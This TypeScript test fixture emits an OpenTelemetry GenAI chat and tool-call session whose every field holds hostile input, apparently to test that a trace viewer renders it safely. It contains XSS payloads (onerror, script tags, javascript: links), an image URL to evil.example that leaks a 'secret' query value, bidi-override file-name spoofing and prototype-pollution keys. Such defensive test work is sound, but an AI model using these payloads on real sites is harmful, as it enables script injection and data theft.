/**
 * A session by somebody who wants the page to run, load or break something. Every string of it names `EVIL_HOST`, so a request
 * that leaves is known by its host, and every script of it sets `window.pwned`.
 */
import { SpanStatusCode } from '@opentelemetry/api';

import { createOtlpExporter, openTracing } from '../../examples/tracing.ts';

export const EVIL_HOST = 'evil.example';
export const HOSTILE_SESSION_ID = `"><img src=x onerror=window.pwned=1>/../${'s'.repeat(80)}`;

const RIGHT_TO_LEFT_OVERRIDE = '\u202E';
const LINE_LENGTH = 200_000;

const MARKUP = `<img src="https://${EVIL_HOST}/a.png" onerror="window.pwned=1"><script>window.pwned=1</script><style>*{display:none}</style>`;
const LINKS = `[click](javascript:window.pwned=1) ![image](https://${EVIL_HOST}/b.png?leak=secret) <a href="javascript:window.pwned=1">x</a>`;
const BIDI = `${RIGHT_TO_LEFT_OVERRIDE}gpj.exe\u2066\u2067 never closed ${'\u0301'.repeat(60)} \u0000\u0007 end`;
const LONG_WORD = 'W'.repeat(3000);
const LONG_LINE = `https://${EVIL_HOST}/c?${'long-line-'.repeat(LINE_LENGTH / 10)}`;

export async function sendHostileSession(endpoint: string): Promise<void> {
  const { tracer, shutdown } = openTracing(
    // An agent's id that is longer than 1,000 characters cannot be asked for.
    { name: `${MARKUP}${LONG_WORD.slice(0, 700)}`, version: `1.0.0${BIDI}${LONG_WORD}` },
    createOtlpExporter(endpoint),
  );
  const common = { 'session.id': HOSTILE_SESSION_ID, 'user.id': `${BIDI}${MARKUP}${LONG_WORD}` };
  const text = (role: string, ...contents: string[]) => ({
    role,
    parts: contents.map((content) => ({ type: 'text', content })),
  });
  const call = {
    type: 'tool_call',
    id: MARKUP,
    name: `${MARKUP}${LONG_WORD}`,
    arguments: { __proto__x: LINKS, url: LONG_LINE },
  };
  const model = tracer.startSpan(`chat ${MARKUP}${LONG_WORD}`, {
    attributes: {
      ...common,
      'gen_ai.operation.name': 'chat',
      'gen_ai.provider.name': MARKUP,
      'gen_ai.request.model': `${BIDI}${LONG_WORD}`,
      'gen_ai.input.messages': JSON.stringify([
        text('user', `${BIDI} ${MARKUP} ${LINKS}`, LONG_LINE),
        text(`${MARKUP}role`, LONG_WORD),
      ]),
      'gen_ai.output.messages': JSON.stringify([
        { role: 'assistant', parts: [...text('', LINKS, MARKUP).parts, call] },
      ]),
      'gen_ai.usage.input_tokens': 9e15,
      'gen_ai.usage.output_tokens': 1,
      [`<b>${LONG_WORD}</b>`]: LONG_LINE,
      constructor: MARKUP,
    },
  });
  model.end();
  const tool = tracer.startSpan(`execute_tool ${BIDI}`, {
    attributes: {
      ...common,
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': `${BIDI}${LONG_WORD}`,
      'gen_ai.tool.call.arguments': JSON.stringify({ [LONG_WORD]: MARKUP, html: LINKS }),
      'gen_ai.tool.call.result': `${LONG_LINE}${MARKUP}`,
    },
  });
  tool.recordException({ name: `${MARKUP}${LONG_WORD}`, message: `${LINKS}${LONG_LINE}` });
  // oxlint-disable-next-line typescript/no-unsafe-enum-assignment -- the same enum, through the examples' declarations
  tool.setStatus({ code: SpanStatusCode.ERROR, message: `${BIDI}${LONG_LINE}` });
  tool.end();
  await shutdown();
}
